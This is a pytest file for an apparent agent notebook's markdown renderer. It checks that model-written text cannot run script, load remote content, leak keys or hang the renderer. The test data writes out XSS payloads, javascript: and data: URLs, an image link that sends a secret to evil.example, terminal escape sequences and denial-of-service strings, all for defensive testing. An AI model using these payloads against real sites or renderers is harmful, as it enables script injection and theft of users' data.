"""What a model says can't do anything, whatever it says."""

from __future__ import annotations

import re

import pytest

from agentkit.notebook.display.markdown import render_markdown

LINK = 'rel="noopener noreferrer nofollow"'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**b** *i* `c` ~~s~~", "<p><strong>b</strong> <em>i</em> <code>c</code> <s>s</s></p>\n"),
        ("# Title", "<h1>Title</h1>\n"),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>\n"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ("[site](https://a.example/x)", f'<p><a href="https://a.example/x" {LINK}>site</a></p>\n'),
        ("```python\nx = 1\n```", '<pre><code>x = <span class="m">1</span>\n</code></pre>\n'),
        ("```nosuchlanguage\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>\n"),
        ("an unclosed\n```python\nx", "<p>an unclosed</p>\n<pre><code>x</code></pre>\n"),
    ],
)
def test_markdown_is_rendered(text: str, html: str) -> None:
    assert render_markdown(text) == html


def test_columns_keep_their_alignment() -> None:
    html = render_markdown("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<td>1</td>\n<td style="text-align:right">2</td>' in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<iframe src="https://evil.example"></iframe>',
        "<svg onload=alert(1)>",
        "<style>body{display:none}</style>",
        '<a href="https://a.example" onclick="alert(1)">x</a>',
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox)",
        "[x](/lab/api/kernels)",
        "[x](files/secret.txt)",
        "![x](https://evil.example/?secret=1)",
        "![x](data:image/svg+xml;base64,AAAA)",
        "![x][r]\n\n[r]: https://evil.example/i.png",
        "```<script>alert(1)</script>\nx\n```",
        "```html\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=y> |",
        '[x](https://a.example "<script>alert(1)</script>")',
        "<https://a.example/<script>>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "$<script>alert(1)</script>$",
        "\\(<img src=x onerror=alert(1)>\\)",
    ],
)
def test_nothing_that_acts_or_loads_is_left(text: str) -> None:
    html = render_markdown(text)
    tags = set(re.findall(r"<\s*/?\s*([a-z0-9]+)", html, re.I))
    allowed = {"a", "p", "code", "pre", "span", "table", "thead", "tbody", "tr", "th", "td"}
    assert tags <= allowed
    attributes = re.findall(r"<[a-z][^>]*?\s([a-z-]+)=", html)
    assert set(attributes) <= {"href", "rel", "class", "title", "style"}
    assert all(url.startswith(("https://", "http://", "mailto:", "#")) for url in re.findall(r'href="([^"]*)"', html))


def test_an_image_becomes_a_link_that_names_its_host() -> None:
    html = render_markdown("![a cat](https://evil.example/cat.png?secret=1)")
    link = f'<a href="https://evil.example/cat.png?secret=1" {LINK}>image: a cat (evil.example)</a>'
    assert html == f"<p>{link}</p>\n"


@pytest.mark.parametrize("text", ["/etc/passwd", "https://evil.example/x", "http://127.0.0.1:8888/internal"])
def test_a_path_or_an_address_is_text(text: str) -> None:
    assert render_markdown(text) == f"<p>{text}</p>\n"


@pytest.mark.parametrize("formula", ["$x^2$", "$$\\frac{1}{2}$$", "\\(a_b * c_d\\)", "\\[ x \\]"])
def test_a_formula_reaches_mathjax_as_it_is(formula: str) -> None:
    assert render_markdown(f"so {formula} holds") == f"<p>so {formula} holds</p>\n"


def test_prices_are_no_formula() -> None:
    html = render_markdown("from $5 to $10, or $5–$10")
    assert html == "<p>from <span>$</span>5 to <span>$</span>10, or <span>$</span>5–<span>$</span>10</p>\n"


@pytest.mark.parametrize(
    "text", ["$\\href{javascript:alert(1)}{x}$", "\\begin{a}\\href{javascript:alert(1)}{x}\\end{a}", "$\\class{x}{y}$"]
)
def test_formulas_that_could_act_are_taken_apart(text: str) -> None:
    html = render_markdown(text)
    assert "$\\" not in html
    assert "\\begin" not in html


def test_keys_are_taken_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "my-very-own-key-1234")
    html = render_markdown("`sk-proj-abcdefgh12345678ijkl` and my-very-own-key-1234")
    assert html == "<p><code>sk-[redacted]</code> and [redacted]</p>\n"


def test_terminal_escapes_are_taken_out() -> None:
    assert render_markdown("a\x1b]52;c;ZXZpbA==\x07b\x00") == "<p>ab</p>\n"


@pytest.mark.parametrize(
    "text", ["[" * 3000, "*a " * 3000, "> " * 500 + "x", "`" * 2000 + "a", "$" * 3000, "\\(" * 2000]
)
def test_hostile_text_takes_no_quadratic_time(text: str) -> None:
    assert len(render_markdown(text)) < 60 * len(text)
